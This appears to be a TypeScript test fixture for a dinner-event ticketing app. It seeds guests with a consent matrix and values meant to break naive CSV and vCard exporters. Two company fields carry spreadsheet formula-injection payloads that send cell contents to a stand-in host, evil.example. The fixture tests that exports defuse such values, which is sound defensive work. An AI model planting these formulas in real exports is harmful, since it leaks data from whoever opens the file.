import type { Ticket } from '../../src/tickets/service';
import type { Dinner, GuestFields } from '../privacy/setup';

/**
 * The consent matrix, each guest with values that break naive CSV and vCard writers.
 * `shares` is what the host may see: the current host consent after everything below.
 */
export const GUESTS = {
  both: {
    name: 'Jörg Heinicke',
    company: '=HYPERLINK("http://evil.example/?x="&A1,"Klick")',
    role: 'CTO, "Founder"',
    phone: '+49 69 123456',
    linkedin: 'https://www.linkedin.com/in/joerg-heinicke',
    // one line: the purchase form refuses line breaks (the text rule); the writers' tests cover stored ones
    askMeAbout: 'Wein; Segeln, "Rudern"',
    consentHost: 'on',
    consentGuests: 'on',
  },
  hostOnly: {
    name: 'Łukasz Żółć',
    // German Excel splits on ";" and would start a cell with the formula (issue 11)
    company: 'Żółć & Syn;=HYPERLINK("http://evil.example/?x="&A1,"Sp. z o.o.")',
    role: '@Head of Sales',
    phone: '-49 30 98765',
    askMeAbout: '🎉 Pierogi, obviously',
    consentHost: 'on',
  },
  guestsOnly: { name: '李小龙', company: '功夫, Ltd.', role: '师傅', consentHost: '', consentGuests: 'on' },
  none: { name: 'Emoji 🎉 Guest', company: 'Quiet GmbH', consentHost: '' },
  withdrawn: { name: 'Wanda Withdrawn', company: 'Gone AG', consentHost: 'on', consentGuests: 'on' },
  // a leading 0 a spreadsheet would drop from a CSV
  noShow: { name: 'Nora No-Show', company: 'Absent KG', phone: '0171 2345678', consentHost: 'on' },
} satisfies Record<string, GuestFields>;

export type GuestKey = keyof typeof GUESTS;
export const SHARES_WITH_HOST: Record<GuestKey, boolean> = {
  both: true,
  hostOnly: true,
  guestsOnly: false,
  none: false,
  withdrawn: false,
  noShow: true,
};

/** Sells all of them, withdraws Wanda's consent on her ticket page, checks in all but Nora, greets two. */
export async function seatMatrix(d: Dinner) {
  const t = {} as Record<GuestKey, Ticket>;
  for (const key of Object.keys(GUESTS) as GuestKey[]) t[key] = await d.sell(GUESTS[key]);
  const refunded = await d.sell({ name: 'Rita Refunded', company: 'Money Back' });
  const refund = await d.adminJson(`/orders/${refunded.orderId}/refund`, 'POST');
  if (refund.status !== 200) throw new Error(`refund failed: ${refund.status}`);
  await d.setConsent(t.withdrawn, 'host', false);
  await d.setConsent(t.withdrawn, 'guests', false);
  d.duringDinner();
  await d.checkIn(t.both, t.hostOnly, t.guestsOnly, t.none, t.withdrawn);
  d.clock.advance(10 * 60_000);
  await d.greet(t.both);
  d.clock.advance(5_000);
  await d.greet(t.hostOnly);
  return t;
}
